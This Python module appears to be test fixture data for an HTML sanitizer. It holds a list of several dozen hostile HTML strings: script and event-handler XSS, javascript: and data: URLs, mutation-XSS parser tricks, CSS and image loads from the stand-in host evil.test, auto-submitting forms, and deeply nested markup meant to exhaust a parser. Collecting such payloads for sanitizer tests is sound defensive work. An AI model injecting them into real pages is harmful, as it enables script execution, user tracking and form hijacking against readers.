"""HTML that attacks its reader: scripts, what changes when it is parsed again, CSS, forms, requests, depth and length.

`alert(1)` stands for what a script would do.
"""

# ruff: noqa: E501

from __future__ import annotations

from typing import Final

HOSTILE: Final = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    '<a href="javascript:alert(1)">click</a><a href="&#106;avascript:alert(1)">click</a>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="//evil.test/x">',
    '<meta http-equiv=refresh content="0;url=http://evil.test/">',
    '<base href="http://evil.test/"><a href="x">y</a>',
    '<link rel=stylesheet href="http://evil.test/x.css"><style>@import "http://evil.test/y.css";</style>',
    '<p style="background:url(http://evil.test/a.png)">a</p><p style="background:var(--x,url(//evil.test/b))">b</p>',
    '<img src="http://evil.test/pixel.gif" width=1><img srcset="http://evil.test/2x.png 2x">',
    '<picture><source srcset="//evil.test/s"><img></picture><video poster="http://evil.test/p" src="//x.test">',
    '<table background="http://evil.test/t.png"><tr><td>t</td></tr></table><body background="http://evil.test/b">',
    '<form action="/jmap/api" method=post><input name=x autofocus onfocus=alert(1)><button>send</button></form>',
    '<input type=image src="http://evil.test/i.png" formaction="javascript:alert(1)">',
    '<a href="/oauth/authorize" ping="http://evil.test/ping" id=cursor name=body>relative</a>',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">cover</div>',
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=alert(1)></xmp>",
    "<p>" * 20_000 + "deep" + "</p>" * 20_000,
    "<b>" * 3_000 + "nested",
    "<table>" + "<tr>" + "<td>x</td>" * 50 + "</tr>" * 400 + "</table>",
    '<details open ontoggle=alert(1)><summary>s</summary></details><marquee onstart=alert(1)>m</marquee>',
    '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'alert(1)\'/>">',
    '<a href="data:text/html,<script>alert(1)</script>" target=_self>data</a>',
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    '<div data-cid="x" class="notice" id="app"><img data-cid="photo">clobber</div>',
    # mXSS: what changes its meaning when it is parsed again
    '<math><mi><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>',
    '<table><caption><svg><title><style><img src=x onerror=alert(1)></style></title></svg></caption></table>',
    "<svg><foreignObject><math><mi><mtext><style></math><img src onerror=alert(1)></style></mtext></mi></math></svg>",
    '<a><math><annotation-xml encoding="text/html"><p><img src=x onerror=alert(1)></p></annotation-xml></math></a>',
    '<select><template><style><!--</select><img src=x onerror=alert(1)>--></style></template></select>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea><title><img src=x onerror=alert(1)>',
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script><![CDATA[<img src=x onerror=alert(1)>]]>",
    "<img src=x:x onerror\x0b=alert(1)><img/src=x/onerror=alert(1)><img src=`x`onerror=alert(1)>",
    # CSS
    '<p style="background:u\\72l(http://evil.test/c)">a</p><p style="background-image:image-set(\'//evil.test/d\' 1x)">b</p>',
    '<p style="list-style:url(http://evil.test/e);cursor:url(//evil.test/f),auto;content:url(//evil.test/g)">c</p>',
    '<p style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(//evil.test/h)">d</p>',
    '<p style="--x:url(//evil.test/i);background:var(--x)">e</p><p style="border-image:url(//evil.test/j) 1">f</p>',
    '<p style="mask:url(//evil.test/k);filter:url(//evil.test/l#m);shape-outside:url(//evil.test/n)">g</p>',
    '<p style="background:url(http://evil.test/unclosed">h</p><p style="position:/**/fixed;inset:0">i</p>',
    '<font face="x;background:url(//evil.test/o)">j</font><td background=//evil.test/p><hr background=//evil.test/q>',
    # forms and what submits or navigates by itself
    '<form id=f action="//evil.test/r"></form><button form=f>x</button><isindex action="//evil.test/s" type=image>',
    '<input type=submit formaction=javascript:alert(1)><keygen autofocus onfocus=alert(1)><output onfocus=alert(1)>',
    '<a href="\x01javascript:alert(1)">a</a><a href="java\tscript:alert(1)">b</a><a href="vbscript:alert(1)">c</a>',
    '<a xlink:href="javascript:alert(1)" href="//evil.test">d</a><area href=javascript:alert(1) shape=default>',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset><applet code=x archive="//evil.test/t"></applet>',
    '<link rel=dns-prefetch href="//evil.test"><link rel=preconnect href="//evil.test"><link rel=prefetch href="//evil.test/u">',
    '<audio src="//evil.test/v" autoplay></audio><track src="//evil.test/w"><bgsound src="//evil.test/x"><img lowsrc=//evil.test/y dynsrc=//evil.test/z>',
    '<img src="http://evil.test/a" loading=eager srcset="http://evil.test/b 2x" sizes=1px><image src="http://evil.test/c">',
    "<b>cut</b><p>" + "<table><td>" * 3_000 + "deep tables",
    "<p>" + "&amp;" * 60_000 + "</p>" + "<i>x</i>" * 30_000 + "end",
]  # fmt: skip
